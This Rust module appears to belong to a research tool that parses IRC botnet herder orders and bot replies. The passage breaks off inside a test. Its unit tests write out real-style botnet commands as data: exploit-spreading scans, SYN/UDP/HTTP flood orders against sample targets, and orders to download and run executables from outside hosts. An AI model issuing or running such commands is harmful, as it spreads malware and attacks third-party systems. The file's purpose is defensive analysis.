//! The order interpreter (Table 10, Fig. 6–7): herder orders as they appear
//! in IRC TOPIC and PRIVMSG texts, and the bots' `[TAG]: ...` replies.
//!
//! Pure functions over one text; linking orders to sessions and replies is
//! done by the caller (`crate::herd`). Command names and argument layouts
//! follow the published descriptions of the SDBot (0.5b), rbot/rxbot,
//! Agobot/Phatbot and Spybot command sets; `docs/analyze.md` lists them.

use serde::{Deserialize, Serialize};

/// Longest text interpreted (IRC lines are at most 512 bytes; bots ignore that).
pub const MAX_TEXT: usize = 4096;
/// Most arguments kept.
pub const MAX_ARGS: usize = 32;

/// The `-a -b -r -s` switches of a scan order.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScanFlags {
    /// `-a`: stay in the bot's class A (/8).
    pub a: bool,
    /// `-b`: stay in the bot's class B (/16).
    pub b: bool,
    /// `-r`: random addresses.
    pub r: bool,
    /// `-s`: silent (no replies in the channel).
    pub s: bool,
}

/// The Phatbot `ddos.*` family.
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum DdosKind {
    /// rbot `ddos.ack`, `ack`, `ackflood`: TCP ACK flood.
    Ack,
    /// `ddos.httpflood`: HTTP GET flood.
    HttpFlood,
    /// `ddos.phaticmp`: ICMP flood.
    PhatIcmp,
    /// `ddos.phatsyn`: SYN+URG flood.
    PhatSyn,
    /// `ddos.phatwolk`: SYN+ACK flood to open ports.
    PhatWolk,
    /// rbot `ddos.random`: TCP packets with random flags.
    Random,
    /// `ddos.stop`: end all floods.
    Stop,
    /// `ddos.synflood`: SYN flood.
    SynFlood,
    /// `ddos.targa3`: malformed IP fragments.
    Targa3,
    /// `ddos.udpflood`: UDP flood.
    UdpFlood,
    /// Any other `ddos.*` name (kept, counted).
    Other(String),
}

impl DdosKind {
    fn from_suffix(s: &str) -> DdosKind {
        match s {
            "ack" | "ackflood" => DdosKind::Ack,
            "random" => DdosKind::Random,
            // rbot's `ddos.syn` is a SYN flood.
            "syn" => DdosKind::SynFlood,
            "httpflood" => DdosKind::HttpFlood,
            "phaticmp" => DdosKind::PhatIcmp,
            "phatsyn" => DdosKind::PhatSyn,
            "phatwolk" => DdosKind::PhatWolk,
            "stop" => DdosKind::Stop,
            "synflood" => DdosKind::SynFlood,
            "targa3" => DdosKind::Targa3,
            "udpflood" => DdosKind::UdpFlood,
            other => DdosKind::Other(other.to_string()),
        }
    }

    /// The command name (`ddos.synflood`).
    pub fn command(&self) -> String {
        let s = match self {
            DdosKind::Ack => "ack",
            DdosKind::Random => "random",
            DdosKind::HttpFlood => "httpflood",
            DdosKind::PhatIcmp => "phaticmp",
            DdosKind::PhatSyn => "phatsyn",
            DdosKind::PhatWolk => "phatwolk",
            DdosKind::Stop => "stop",
            DdosKind::SynFlood => "synflood",
            DdosKind::Targa3 => "targa3",
            DdosKind::UdpFlood => "udpflood",
            DdosKind::Other(o) => o,
        };
        format!("ddos.{s}")
    }
}

/// What an order asks for.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "lowercase")]
pub enum OrderKind {
    /// `advscan`, `ntscan`, `ipscan`, `scan` and their `scan.*` forms.
    Scan {
        /// Exploit module to spread with (`dcom135`, `lsass`...).
        scanner: Option<String>,
        /// Scanning threads.
        threads: Option<u32>,
        /// Seconds between attempts.
        delay_s: Option<u32>,
        /// How long to scan, minutes (0 = until stopped).
        minutes: Option<u32>,
        /// An address pattern (`r.r.r`, `192.168.x.x`), when given.
        range: Option<String>,
        /// Switches.
        flags: ScanFlags,
    },
    /// `ddos.*`.
    Ddos {
        /// Which flood.
        flood: DdosKind,
        /// Target host, address or URL.
        target: Option<String>,
        /// Target port.
        port: Option<u16>,
        /// Duration in seconds.
        duration_s: Option<u32>,
        /// Delay between packets, ms.
        delay_ms: Option<u32>,
        /// Packets to send (SDBot `udp`/`ping`, Spybot `syn` layouts).
        #[serde(default)]
        count: Option<u32>,
    },
    /// `download`, `update` and their `http.`/`ftp.`/`bot.` forms.
    Download {
        /// True for an update (replace the bot) rather than a plain download.
        update: bool,
        /// URL.
        url: Option<String>,
        /// Local file name (downloads) or bot id (updates).
        file: Option<String>,
    },
    /// `redirect.*` and `socks*`: a relay opened on the bot.
    Redirect {
        /// Sub-command (`tcp`, `socks`, `http`, `https`, `gre`, `stop`...).
        mode: String,
        /// Port opened on the bot.
        local_port: Option<u16>,
        /// Relay target host.
        target: Option<String>,
        /// Relay target port.
        target_port: Option<u16>,
    },
    /// `login` (SDBot, rbot, Spybot `login <password>`; Agobot `login
    /// <user> <password>`). The password stays in the raw arguments.
    Login {
        /// Agobot's user name, when two arguments are given.
        user: Option<String>,
    },
    /// A question about the bot: `status`, `sysinfo`, `netinfo`,
    /// `version`, `uptime`, `id`... and their `bot.*` forms.
    Info {
        /// Canonical topic: `status`, `sysinfo`, `netinfo`, `version`,
        /// `uptime`, `id`, `nick`, `who`.
        topic: String,
    },
    /// `execute`, `exec`, `bot.execute`, `bot.open`, `open`: run a program
    /// already on the bot (`execute <visible 0|1> <path> [args]`).
    Execute {
        /// Whether the program runs visibly, when the first argument says.
        visible: Option<bool>,
        /// Program path or name.
        file: Option<String>,
    },
    /// Session and life-cycle orders: `logout`, `remove`/`uninstall`,
    /// `quit`/`die`, `reconnect`, `disconnect`, `scan.stop`, `scanstats`...
    Control {
        /// Canonical action: `logout`, `remove`, `quit`, `reconnect`,
        /// `disconnect`, `scan.stop`, `scan.stats`, `scan.config`.
        action: String,
    },
    /// Anything else with an order prefix: counted, not dropped.
    Unknown,
}

impl OrderKind {
    /// A short name of the order's kind (`scan`, `ddos`, `download`,
    /// `update`, `redirect`, `login`, `info`, `execute`, `control`,
    /// `unknown`).
    pub fn name(&self) -> &'static str {
        match self {
            OrderKind::Scan { .. } => "scan",
            OrderKind::Ddos { .. } => "ddos",
            OrderKind::Download { update: false, .. } => "download",
            OrderKind::Download { update: true, .. } => "update",
            OrderKind::Redirect { .. } => "redirect",
            OrderKind::Login { .. } => "login",
            OrderKind::Info { .. } => "info",
            OrderKind::Execute { .. } => "execute",
            OrderKind::Control { .. } => "control",
            OrderKind::Unknown => "unknown",
        }
    }
}

/// One order parsed from a text.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Order {
    /// The prefix character (`.`, `!`, `@`, `?`...), if any.
    pub prefix: Option<char>,
    /// The command word, lower-cased (`advscan`, `ddos.synflood`).
    pub command: String,
    /// The arguments after the command (at most [`MAX_ARGS`]).
    pub args: Vec<String>,
    /// Interpretation.
    pub kind: OrderKind,
}

/// Removes mIRC colour/format codes and other control characters.
pub fn strip_formatting(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(MAX_TEXT));
    let mut chars = text.chars().take(MAX_TEXT).peekable();
    while let Some(c) = chars.next() {
        match c {
            '\x03' => {
                // \x03[fg[,bg]] with one- or two-digit numbers.
                for _ in 0..2 {
                    if chars.peek().is_some_and(|d| d.is_ascii_digit()) {
                        chars.next();
                    }
                }
                if chars.peek() == Some(&',') {
                    chars.next();
                    for _ in 0..2 {
                        if chars.peek().is_some_and(|d| d.is_ascii_digit()) {
                            chars.next();
                        }
                    }
                }
            }
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

/// Prefixes that always make a text an order (unknown commands included).
pub const ORDER_PREFIXES: [char; 3] = ['.', '!', '@'];
/// Prefixes that make a text an order when the command is a known one
/// (herders configure the prefix: `?status`, `~sysinfo`, `$login x`).
pub const WEAK_PREFIXES: [char; 8] = ['?', '~', '$', '%', '&', '*', '^', '`'];

/// Flood commands without the `ddos.` family name (SDBot, rbot/rxbot,
/// Spybot).
const PLAIN_FLOODS: [&str; 11] = [
    "syn",
    "synflood",
    "udp",
    "udpflood",
    "ping",
    "pingflood",
    "icmpflood",
    "ack",
    "ackflood",
    "tcpflood",
    "httpflood",
];

/// The command without its family name, for the families whose members
/// share a meaning (`bot.sysinfo` → `sysinfo`).
fn strip_family(cmd: &str) -> &str {
    for fam in ["bot.", "http.", "ftp."] {
        if let Some(rest) = cmd.strip_prefix(fam) {
            return rest;
        }
    }
    cmd
}

/// The canonical info topic of a command (`si` → `sysinfo`), if it asks
/// the bot about itself.
fn info_topic(cmd: &str) -> Option<&'static str> {
    let c = cmd.strip_prefix("bot.").unwrap_or(cmd);
    Some(match c {
        "status" | "stat" => "status",
        "sysinfo" | "si" | "info" => "sysinfo",
        "netinfo" | "ni" => "netinfo",
        "version" | "ver" | "about" => "version",
        "uptime" | "longuptime" => "uptime",
        "id" => "id",
        "nick" => "nick",
        "who" | "whois" => "who",
        _ => return None,
    })
}

/// The canonical control action of a command, if it is one.
fn control_action(cmd: &str) -> Option<&'static str> {
    let c = cmd.strip_prefix("bot.").unwrap_or(cmd);
    Some(match c {
        "logout" | "lo" => "logout",
        "remove" | "rm" | "uninstall" | "removeallbut" => "remove",
        "quit" | "die" | "exit" => "quit",
        "reconnect" => "reconnect",
        "disconnect" => "disconnect",
        _ => match cmd {
            "scan.stop" | "scanstop" | "scan.stopall" | "advscan.stop" | "scanall.stop" => {
                "scan.stop"
            }
            "scan.stats" | "scanstats" | "advscan.stats" => "scan.stats",
            _ if cmd.starts_with("scan.")
                && matches!(
                    &cmd[5..],
                    "add"
                        | "del"
                        | "enable"
                        | "disable"
                        | "clearnetranges"
                        | "addnetrange"
                        | "delnetrange"
                        | "listnetranges"
                        | "resetnetranges"
                ) =>
            {
                "scan.config"
            }
            _ => return None,
        },
    })
}

fn is_scan_command(cmd: &str) -> bool {
    matches!(
        cmd,
        "advscan" | "asc" | "ntscan" | "ipscan" | "scan" | "scanall"
    ) || (cmd.starts_with("scan.") && control_action(cmd).is_none())
}

fn is_flood_command(cmd: &str) -> bool {
    cmd.starts_with("ddos.") || PLAIN_FLOODS.contains(&cmd)
}

fn is_known_command(cmd: &str) -> bool {
    let plain = strip_family(cmd);
    matches!(
        cmd,
        "download"
            | "dl"
            | "update"
            | "socks"
            | "socks4"
            | "socks5"
            | "redirect"
            | "login"
            | "execute"
            | "exec"
            | "open"
    ) || is_scan_command(cmd)
        || is_flood_command(cmd)
        || info_topic(cmd).is_some()
        || control_action(cmd).is_some()
        || cmd.starts_with("redirect.")
        || cmd.starts_with("bot.")
        || ((cmd.starts_with("http.") || cmd.starts_with("ftp."))
            && matches!(plain, "download" | "update" | "execute" | "visit"))
}

/// Known commands that a text without any prefix may start with: only
/// names no one types in chat (`advscan`, `sysinfo`, `ddos.synflood`).
fn is_bare_command(cmd: &str) -> bool {
    matches!(
        cmd,
        "advscan"
            | "ntscan"
            | "ipscan"
            | "scan"
            | "download"
            | "update"
            | "socks"
            | "socks4"
            | "socks5"
            | "redirect"
            | "sysinfo"
            | "netinfo"
    ) || cmd.starts_with("ddos.")
        || cmd.starts_with("redirect.")
        || cmd.starts_with("scan.")
        || cmd.starts_with("http.")
        || cmd.starts_with("ftp.")
        || cmd.starts_with("bot.")
}

/// Parses one TOPIC, PRIVMSG or NOTICE text. A text with a prefix `.`,
/// `!` or `@` is always an order (unknown ones included); with another
/// punctuation prefix (`?`, `~`, `$`...) only when the command is known;
/// without a prefix only when its first word is an unmistakable command
/// (`advscan`, `ddos.*`, `sysinfo`...).
pub fn parse_order(text: &str) -> Option<Order> {
    let clean = strip_formatting(text);
    let t = clean.trim();
    let first = t.chars().next()?;
    let (prefix, strong, rest) = if ORDER_PREFIXES.contains(&first) {
        (Some(first), true, t[first.len_utf8()..].trim_start())
    } else if WEAK_PREFIXES.contains(&first) {
        (Some(first), false, t[first.len_utf8()..].trim_start())
    } else {
        (None, false, t)
    };
    let mut words = rest.split_whitespace();
    let command = words.next()?.to_ascii_lowercase();
    if command.is_empty()
        || command.len() > 64
        || !command
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
        || !command.starts_with(|c: char| c.is_ascii_alphabetic())
    {
        return None;
    }
    let known = match prefix {
        None => is_bare_command(&command),
        Some(_) => is_known_command(&command),
    };
    if !strong && !known {
        return None;
    }
    let args: Vec<String> = words.take(MAX_ARGS).map(str::to_string).collect();
    let kind = interpret(&command, &args);
    Some(Order {
        prefix,
        command,
        args,
        kind,
    })
}

fn num<T: std::str::FromStr>(s: Option<&String>) -> Option<T> {
    s.and_then(|v| v.parse().ok())
}

fn interpret(cmd: &str, args: &[String]) -> OrderKind {
    if let Some(action) = control_action(cmd) {
        return OrderKind::Control {
            action: action.to_string(),
        };
    }
    if is_scan_command(cmd) {
        return interpret_scan(cmd, args);
    }
    if let Some(f) = cmd.strip_prefix("ddos.") {
        return interpret_ddos(f, args);
    }
    if PLAIN_FLOODS.contains(&cmd) {
        return interpret_plain_flood(cmd, args);
    }
    if let Some(topic) = info_topic(cmd) {
        return OrderKind::Info {
            topic: topic.to_string(),
        };
    }
    let plain = strip_family(cmd);
    let family_ok =
        !cmd.contains('.') || ["http.", "ftp.", "bot."].iter().any(|p| cmd.starts_with(p));
    if family_ok && matches!(plain, "download" | "update" | "dl") {
        return OrderKind::Download {
            update: plain == "update",
            url: args.first().cloned(),
            file: args.get(1).cloned(),
        };
    }
    // `http.execute <url> <file>`: download, then run.
    if matches!(cmd, "http.execute" | "ftp.execute") {
        return OrderKind::Download {
            update: false,
            url: args.first().cloned(),
            file: args.get(1).cloned(),
        };
    }
    if matches!(cmd, "login" | "bot.login" | "auth") {
        return OrderKind::Login {
            user: if args.len() >= 2 {
                args.first().cloned()
            } else {
                None
            },
        };
    }
    if matches!(
        cmd,
        "execute" | "exec" | "bot.execute" | "bot.open" | "open" | "run"
    ) {
        // SDBot/rbot/Agobot: `execute <visible 0|1> <path> [args]`;
        // `open <path>` has no visibility.
        let (visible, file) = match args.first().map(String::as_str) {
            Some("0") => (Some(false), args.get(1).cloned()),
            Some("1") => (Some(true), args.get(1).cloned()),
            _ => (None, args.first().cloned()),
        };
        return OrderKind::Execute { visible, file };
    }
    if let Some(mode) = cmd.strip_prefix("redirect.") {
        return interpret_redirect(mode, args);
    }
    if matches!(cmd, "socks" | "socks4" | "socks5" | "redirect") {
        let mode = if cmd == "redirect" { "tcp" } else { cmd };
        return interpret_redirect(mode, args);
    }
    OrderKind::Unknown
}

/// Floods without the `ddos.` family name:
/// - SDBot `udp|ping <host> <packets> <size> <delay ms> [port]`;
/// - rbot/rxbot `syn|synflood|ack|ackflood|udpflood|pingflood|icmpflood
///   <host> <port> <seconds>`, `tcpflood <syn|ack|random> <host> <port>
///   <seconds>`, `httpflood <url> <seconds>`;
/// - Spybot `syn <host> <port> <delay ms> <packets>` (four numbers).
fn interpret_plain_flood(cmd: &str, args: &[String]) -> OrderKind {
    let a = |i: usize| args.get(i);
    let kind = |c: &str| match c {
        "syn" | "synflood" => DdosKind::SynFlood,
        "udp" | "udpflood" => DdosKind::UdpFlood,
        "ping" | "pingflood" | "icmpflood" => DdosKind::PhatIcmp,
        "ack" | "ackflood" => DdosKind::Ack,
        "random" => DdosKind::Random,
        "httpflood" => DdosKind::HttpFlood,
        other => DdosKind::Other(other.to_string()),
    };
    let (flood, target, port, duration_s, delay_ms, count) = match cmd {
        "udp" | "ping" => (
            kind(cmd),
            a(0).cloned(),
            num(a(4)),
            None,
            num(a(3)),
            num(a(1)),
        ),
        "tcpflood" => {
            let sub = a(0).map(|s| s.to_ascii_lowercase()).unwrap_or_default();
            (kind(&sub), a(1).cloned(), num(a(2)), num(a(3)), None, None)
        }
        "httpflood" => {
            let url = a(0).cloned();
            let port = url.as_deref().and_then(url_port);
            (DdosKind::HttpFlood, url, port, num(a(1)), None, None)
        }
        "syn" if args.len() >= 4 => (
            DdosKind::SynFlood,
            a(0).cloned(),
            num(a(1)),
            None,
            num(a(2)),
            num(a(3)),
        ),
        _ => (kind(cmd), a(0).cloned(), num(a(1)), num(a(2)), None, None),
    };
    OrderKind::Ddos {
        flood,
        target,
        port,
        duration_s,
        delay_ms,
        count,
    }
}

fn interpret_scan(cmd: &str, args: &[String]) -> OrderKind {
    let mut flags = ScanFlags::default();
    let mut plain: Vec<&String> = Vec::new();
    for a in args {
        match a.as_str() {
            "-a" => flags.a = true,
            "-b" => flags.b = true,
            "-r" => flags.r = true,
            "-s" => flags.s = true,
            _ => plain.push(a),
        }
    }
    let is_num = |s: &&String| s.parse::<u64>().is_ok();
    let is_range = |s: &&String| {
        s.contains('.')
            && s.split('.')
                .all(|p| p.parse::<u8>().is_ok() || p == "x" || p == "r" || p == "*")
    };
    let range = plain.iter().find(|s| is_range(s)).map(|s| s.to_string());
    let scanner = plain
        .iter()
        .find(|s| !is_num(s) && !is_range(s))
        .map(|s| s.to_string());
    let nums: Vec<u64> = plain
        .iter()
        .filter(|s| is_num(s))
        .filter_map(|s| s.parse().ok())
        .collect();
    let n = |i: usize| nums.get(i).and_then(|v| u32::try_from(*v).ok());
    // advscan/scan: <scanner> <threads> <delay s> <minutes>;
    // ntscan: <threads> <delay s> [minutes];
    // ipscan: <range> <scanner> <seconds> <threads> <delay ms>.
    let (threads, delay_s, minutes) = match cmd {
        "ipscan" => (n(1), n(2).map(|ms| ms / 1000), n(0).map(|s| s / 60)),
        _ => (n(0), n(1), n(2)),
    };
    OrderKind::Scan {
        scanner,
        threads,
        delay_s,
        minutes,
        range,
        flags,
    }
}

fn interpret_ddos(suffix: &str, args: &[String]) -> OrderKind {
    let flood = DdosKind::from_suffix(suffix);
    let a = |i: usize| args.get(i);
    // Agobot/Phatbot layouts:
    //   synflood|phatsyn|phatwolk <host> <time s> <delay ms> <port>
    //   phaticmp <host> <time s> <delay ms>
    //   udpflood <host> <port> <time s> <delay ms>
    //   targa3 <host> <time s>
    //   httpflood <url> <time s> [referrer] [recursive]
    // rbot/rxbot layouts:
    //   syn|ack|random <host> <port> <time s>
    let (target, port, duration_s, delay_ms) = match (suffix, &flood) {
        ("syn" | "ack" | "random", _) => (a(0).cloned(), num(a(1)), num(a(2)), None),
        (_, DdosKind::SynFlood | DdosKind::PhatSyn | DdosKind::PhatWolk) => {
            (a(0).cloned(), num(a(3)), num(a(1)), num(a(2)))
        }
        (_, DdosKind::PhatIcmp) => (a(0).cloned(), None, num(a(1)), num(a(2))),
        (_, DdosKind::UdpFlood) => (a(0).cloned(), num(a(1)), num(a(2)), num(a(3))),
        (_, DdosKind::Targa3) => (a(0).cloned(), None, num(a(1)), None),
        (_, DdosKind::HttpFlood) => {
            let url = a(0).cloned();
            let port = url.as_deref().and_then(url_port);
            (url, port, num(a(1)), None)
        }
        (_, DdosKind::Stop) => (None, None, None, None),
        (_, DdosKind::Ack | DdosKind::Random) => (a(0).cloned(), num(a(1)), num(a(2)), None),
        (_, DdosKind::Other(_)) => (a(0).cloned(), None, None, None),
    };
    OrderKind::Ddos {
        flood,
        target,
        port,
        duration_s,
        delay_ms,
        count: None,
    }
}

fn interpret_redirect(mode: &str, args: &[String]) -> OrderKind {
    OrderKind::Redirect {
        mode: mode.to_string(),
        local_port: num(args.first()),
        target: args.get(1).cloned(),
        target_port: num(args.get(2)),
    }
}

/// The port of an `http://host:port/...` URL (80 when none is given).
pub fn url_port(url: &str) -> Option<u16> {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let hostport = rest.split(['/', '?']).next()?;
    match hostport.rsplit_once(':') {
        Some((_, p)) => p.parse().ok(),
        None => Some(if url.starts_with("ftp://") { 21 } else { 80 }),
    }
}

/// The host of a URL.
pub fn url_host(url: &str) -> Option<&str> {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let hostport = rest.split(['/', '?']).next()?;
    let host = hostport
        .rsplit_once(':')
        .map(|(h, _)| h)
        .unwrap_or(hostport);
    let host = host.rsplit_once('@').map(|(_, h)| h).unwrap_or(host);
    (!host.is_empty()).then_some(host)
}

/// A bot's reply: `[DOWNLOAD]: Downloaded 28.6 KB to x.exe @ 28.6 KB/sec.`
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Reply {
    /// The module tag, upper-cased (`DOWNLOAD`, `SCAN`, `DDOS`); for an
    /// untagged reply the tag its text implies (`LOGIN`, `SYSINFO`...) or
    /// empty.
    pub tag: String,
    /// The text after the tag.
    pub text: String,
    /// URL named in the text, if any.
    pub url: Option<String>,
    /// File name named in the text (`to: x.exe`, `to x.exe`, `Opened: x.exe`).
    pub file: Option<String>,
    /// Whether the reply reports a failure.
    pub failed: bool,
    /// Whether the text carried its `[TAG]` (rbot, Agobot); SDBot and
    /// Spybot replies are plain text.
    #[serde(default = "yes")]
    pub tagged: bool,
}

fn yes() -> bool {
    true
}

/// Parses a bot reply; `None` when the text is not of the `[TAG]` form.
pub fn parse_reply(text: &str) -> Option<Reply> {
    let clean = strip_formatting(text);
    let t = clean.trim().strip_prefix('[')?;
    let (tag, rest) = t.split_once(']')?;
    if tag.is_empty()
        || tag.len() > 24
        || !tag
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == ' ' || c == '.')
    {
        return None;
    }
    let text = rest.trim_start_matches(':').trim().to_string();
    Some(reply_fields(tag.to_ascii_uppercase(), text, true))
}

/// Parses a text a bot sent back to its herder: the `[TAG]` form, or a
/// plain SDBot/Spybot line whose tag is implied by its words (`password
/// accepted` → `LOGIN`, `cpu: ... ram: ...` → `SYSINFO`, `connection
/// type: ...` → `NETINFO`, `downloading`/`downloaded` → `DOWNLOAD`,
/// `executed`/`opened` → `EXECUTE`, `ready. Up ...` → `STATUS`). Only the
/// caller knows the line answers an order (it came from the nick the
/// order went to); `None` for an empty text or a prefixed order (`.x`,
/// `!x`...).
pub fn parse_relayed_reply(text: &str) -> Option<Reply> {
    if let Some(r) = parse_reply(text) {
        return Some(r);
    }
    let clean = strip_formatting(text);
    let t = clean.trim();
    // A prefixed order is never a reply; a line merely starting with a
    // command word (`download of http://... complete`) may be one.
    if t.is_empty() || parse_order(t).is_some_and(|o| o.prefix.is_some()) {
        return None;
    }
    let tag = implied_tag(t);
    Some(reply_fields(tag.to_string(), t.to_string(), false))
}

/// The tag a plain reply's words imply (empty when none does).
pub fn implied_tag(text: &str) -> &'static str {
    let l = text.to_ascii_lowercase();
    let has = |k: &str| l.contains(k);
    if has("password accepted") || has("logged in") || has("login successful") {
        "LOGIN"
    } else if has("logged out") || has("logout") {
        "LOGOUT"
    } else if has("cpu:") || has("ram:") || has(" os:") || l.starts_with("os:") {
        "SYSINFO"
    } else if has("connection type") || has("local ip") || has("ip address:") {
        "NETINFO"
    } else if has("download") || has("://") {
        "DOWNLOAD"
    } else if has("update") {
        "UPDATE"
    } else if has("executed") || has("opened") || has("execute") {
        "EXECUTE"
    } else if has("ready") || has("uptime") || l.contains(" up ") {
        "STATUS"
    } else if has("remov") || has("uninstall") {
        "REMOVE"
    } else if has("scan") {
        "SCAN"
    } else if has("flood") || has("ddos") {
        "DDOS"
    } else {
        ""
    }
}

fn reply_fields(tag: String, text: String, tagged: bool) -> Reply {
    let words: Vec<&str> = text.split_whitespace().take(MAX_TEXT).collect();
    let url = words
        .iter()
        .find(|w| w.contains("://"))
        .map(|w| w.trim_end_matches(['.', ',', ')']).to_string());
    let clean_file = |w: &str| w.trim_end_matches(['.', ',']).to_string();
    let mut file = None;
    for (i, w) in words.iter().enumerate() {
        let wl = w.to_ascii_lowercase();
        if (wl == "to:" || wl == "to" || wl == "opened:" || wl == "executed:")
            && i + 1 < words.len()
        {
            file = Some(clean_file(words[i + 1]));
        }
    }
    let lower = text.to_ascii_lowercase();
    let failed = ["fail", "error", "couldn't", "could not", "unable"]
        .iter()
        .any(|k| lower.contains(k));
    Reply {
        tag,
        text,
        url,
        file,
        failed,
        tagged,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn advscan_from_figure_6_and_the_corpus() {
        let o = parse_order(".advscan dcom135 200 3 0 -r -s").unwrap();
        assert_eq!(o.prefix, Some('.'));
        assert_eq!(o.command, "advscan");
        assert_eq!(
            o.kind,
            OrderKind::Scan {
                scanner: Some("dcom135".into()),
                threads: Some(200),
                delay_s: Some(3),
                minutes: Some(0),
                range: None,
                flags: ScanFlags {
                    a: false,
                    b: false,
                    r: true,
                    s: true
                },
            }
        );
        let o = parse_order(".advscan dcom135 260 5 0 -b -r -s").unwrap();
        let OrderKind::Scan {
            threads,
            delay_s,
            flags,
            ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!((threads, delay_s), (Some(260), Some(5)));
        assert_eq!(
            flags,
            ScanFlags {
                a: false,
                b: true,
                r: true,
                s: true
            }
        );
        let o = parse_order("!advscan dclass 400 3 999 -r -s").unwrap();
        assert_eq!(o.prefix, Some('!'));
        let OrderKind::Scan {
            scanner, minutes, ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!((scanner.as_deref(), minutes), (Some("dclass"), Some(999)));
    }

    #[test]
    fn ntscan_and_ipscan_without_prefix() {
        let o = parse_order("ntscan 200 2000 -a -b -s").unwrap();
        assert_eq!(o.prefix, None);
        let OrderKind::Scan {
            threads,
            delay_s,
            flags,
            scanner,
            ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!((threads, delay_s, scanner), (Some(200), Some(2000), None));
        assert!(flags.a && flags.b && flags.s && !flags.r);
        let o = parse_order("ipscan r.r.r dcom2 86400 256 8000 -s").unwrap();
        let OrderKind::Scan {
            threads,
            delay_s,
            minutes,
            range,
            scanner,
            ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!(range.as_deref(), Some("r.r.r"));
        assert_eq!(scanner.as_deref(), Some("dcom2"));
        assert_eq!(
            (threads, delay_s, minutes),
            (Some(256), Some(8), Some(1440))
        );
        // No prefix and not a known command: chat, not an order.
        assert_eq!(parse_order("hello all"), None);
    }

    #[test]
    fn ddos_family() {
        let o = parse_order("@ddos.synflood 10.1.2.3 600 0 6667").unwrap();
        assert_eq!(
            o.kind,
            OrderKind::Ddos {
                flood: DdosKind::SynFlood,
                target: Some("10.1.2.3".into()),
                port: Some(6667),
                duration_s: Some(600),
                delay_ms: Some(0),
                count: None,
            }
        );
        let o = parse_order(".ddos.udpflood 10.9.9.9 53 120 5").unwrap();
        let OrderKind::Ddos {
            port, duration_s, ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!((port, duration_s), (Some(53), Some(120)));
        let o = parse_order(".ddos.httpflood http://victim.example:8080/x.php 300").unwrap();
        let OrderKind::Ddos {
            flood,
            port,
            duration_s,
            ..
        } = o.kind
        else {
            panic!()
        };
        assert_eq!(
            (flood, port, duration_s),
            (DdosKind::HttpFlood, Some(8080), Some(300))
        );
        for (c, k) in [
            ("phaticmp", DdosKind::PhatIcmp),
            ("phatsyn", DdosKind::PhatSyn),
            ("phatwolk", DdosKind::PhatWolk),
            ("stop", DdosKind::Stop),
            ("targa3", DdosKind::Targa3),
        ] {
            let o = parse_order(&format!(".ddos.{c} 1.2.3.4 60")).unwrap();
            let OrderKind::Ddos { flood, .. } = o.kind else {
                panic!()
            };
            assert_eq!(flood, k);
            assert_eq!(flood.command(), format!("ddos.{c}"));
        }
    }

    #[test]
    fn download_update_redirect_unknown() {
        let o = parse_order(".download http://www.wanees.net/bbnz.exe bbnz.exe 1").unwrap();
        assert_eq!(
            o.kind,
            OrderKind::Download {
                update: false,
                url: Some("http://www.wanees.net/bbnz.exe".into()),
                file: Some("bbnz.exe".into())
            }
        );
        let o = parse_order("!http.update http://x.example/b.exe 42").unwrap();
        assert!(matches!(o.kind, OrderKind::Download { update: true, .. }));
        let o = parse_order(".redirect.tcp 3186 mail.example 25").unwrap();
        assert_eq!(
            o.kind,
            OrderKind::Redirect {
                mode: "tcp".into(),
                local_port: Some(3186),
                target: Some("mail.example".into()),
                target_port: Some(25)
            }
        );
        let o = parse_order(".redirect.socks 6329").unwrap();
        assert!(matches!(
            o.kind,
            OrderKind::Redirect {
                local_port: Some(6329),
                ..
            }
        ));
        let o = parse_order(".login secret").unwrap();
        assert_eq!(
            (o.command.as_str(), o.kind),
            ("login", OrderKind::Login { user: None })
        );
        let o = parse_order(".bot.flushdns").unwrap();
        assert_eq!(
            (o.command.as_str(), o.kind),
            ("bot.flushdns", OrderKind::Unknown)
        );
        // Colour codes do not hide an order.
        let o = parse_order("\x0304,01.ddos.stop\x03").unwrap();
        assert!(matches!(
            o.kind,
            OrderKind::Ddos {
                flood: DdosKind::Stop,
                ..
            }
        ));
    }

    #[test]
    fn replies_from_the_corpus_bot() {
        let r = parse_reply(
            "[DOWNLOAD]: Downloading URL: http://www.wanees.net/bbnz.exe to: bbnz.exe.",
        )
        .unwrap();
        assert_eq!(r.tag, "DOWNLOAD");
        assert_eq!(r.url.as_deref(), Some("http://www.wanees.net/bbnz.exe"));
        assert_eq!(r.file.as_deref(), Some("bbnz.exe"));
        assert!(!r.failed);
        let r = parse_reply(
            "[DOWNLOAD]: Downloaded 28.6 KB to ysbinstall_1000489_3.exe @ 28.6 KB/sec.",
        )
        .unwrap();
        assert_eq!(r.file.as_deref(), Some("ysbinstall_1000489_3.exe"));
        let r = parse_reply("[DOWNLOAD]: Couldn't open file: x.exe.").unwrap();
        assert!(r.failed);
        assert_eq!(parse_reply("plain chat"), None);
    }

    #[test]
    fn url_parts() {
        assert_eq!(
            url_port("http://webacceptor.findwhatevernow.com:8091/get.file?a=1"),
            Some(8091)
        );
        assert_eq!(url_port("http://x/y"), Some(80));
        assert_eq!(url_host("http://u:p@h.example:81/z"), Some("h.example"));
    }

    fn info(t: &str) -> OrderKind {
        OrderKind::Info { topic: t.into() }
    }
    fn control(a: &str) -> OrderKind {
        OrderKind::Control { action: a.into() }
    }

    /// The SDBot 0.5b session of issue 15, as the herder typed it.
    #[test]
    fn sdbot_herder_commands() {
        let k = |t: &str| parse_order(t).unwrap().kind;
